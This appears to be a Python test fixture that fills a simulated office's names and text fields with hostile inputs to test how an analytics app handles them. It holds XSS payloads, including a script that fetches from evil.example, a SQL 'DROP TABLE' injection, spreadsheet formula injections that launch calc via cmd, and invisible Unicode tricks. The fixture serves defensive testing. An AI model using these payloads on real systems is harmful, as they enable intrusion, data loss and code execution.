"""An office whose every name and free text attacks: markup, addresses, formulas, templates, signs that nobody sees."""

from datetime import timedelta
from pathlib import Path

from analytics.core.principal import Principal
from analytics.core.scope import Role, Scope
from analytics.store.ledger.ledger import Annotation
from analytics.store.ledger.verdict_replies import MOST_SIGNS, Finding
from analytics.store.ledger.visits import Booking, VisitBook
from benchmarks.call_logs import MONDAY
from tests.office import MONTH, Office, Team, open_office

AWAY = "evil.example"
LONG = "Ы" * 10_000
MARKUP = f"<img src=https://{AWAY}/a onerror=\"window.owned=1\"><b>жирно</b><a href='https://{AWAY}/b'>c</a>"
MARKDOWN = f"![x](https://{AWAY}/d.png) [y](https://{AWAY}/e) **жирно** # `код` | a | ~~b~~"
BARE = f"https://{AWAY}/f www.{AWAY} mail@{AWAY}"
SIGNS = ":material/rocket_launch: :rocket: :red[опасно] :red-badge[x] $$\\frac{1}{2}$$ -> <- --"
SCRIPT = f"<script>window.owned=1;fetch('https://{AWAY}/g')</script>%{{y}}<extra>z</extra>"
SQL = "x'; DROP TABLE calls; --"
LINK = f'=HYPERLINK("https://{AWAY}/h","x")'
COMMAND = "+cmd|' /C calc'!A0"
SUM = "@SUM(1+9)*cmd|' /C calc'!A0"
TAB, RETURN, BLANK = "\t=1+1", "\r=1+2", "  =1+3"
UNSEEN = "\u202eгнолпам\u202c \u2067x\u2069 ну\u200bль \u2400 \x01 \ufeffконец"
MINUS = f"-2+3+cmd|' /C calc'!A0 <iframe src=https://{AWAY}/i>"


def hostile_office(folder: Path) -> Office:
    """Files through the real import; texts that are typed in the program as if they were typed."""
    south = Team(
        MARKDOWN[:60],
        (MARKUP, MARKDOWN, BARE, SIGNS),
        SCRIPT,
        (LONG, COMMAND, TAB),
        (BARE, LONG, LINK, SIGNS),
        (MARKUP, RETURN, UNSEEN, MARKDOWN),
    )
    north = Team(
        LINK,
        (SQL, LINK, UNSEEN, SCRIPT + "2"),
        BARE + " 2",
        (MARKDOWN, SUM, SIGNS + BARE),
        (MINUS, COMMAND, BLANK, SCRIPT),
        (BARE, SIGNS, LONG, SUM),
    )
    office = open_office(folder, (south, north))
    book, pay = VisitBook(office.company.folder.ledger), office.company.pay
    for place, text in enumerate((MARKUP, MARKDOWN, BARE, SIGNS, SCRIPT, LINK, UNSEEN, COMMAND, LONG[:500])):
        office.company.ledger.annotate(
            Annotation(0, f"{MONTH}-{place + 10}", f"{MONTH}-{place + 11}", "other", text), "test"
        )
        pay.correct(MONTH, SQL, 100 * (place + 1), text, text)
        pay.dispute(MONTH, SQL, text, text)
        own = Principal(text, Scope(Role.OPERATOR, operators=(SQL,), teams=None))
        office.company.replies.give(Finding(SQL, text, MONDAY, MONDAY + timedelta(days=10)), text[:MOST_SIGNS], own)
        book.book(
            Booking(
                text, SQL, text, text, "2026-07-01T11:00:00", address=text, object_type=text, floor=text, area_m2=1.0
            ),
            "test",
        )
    return office
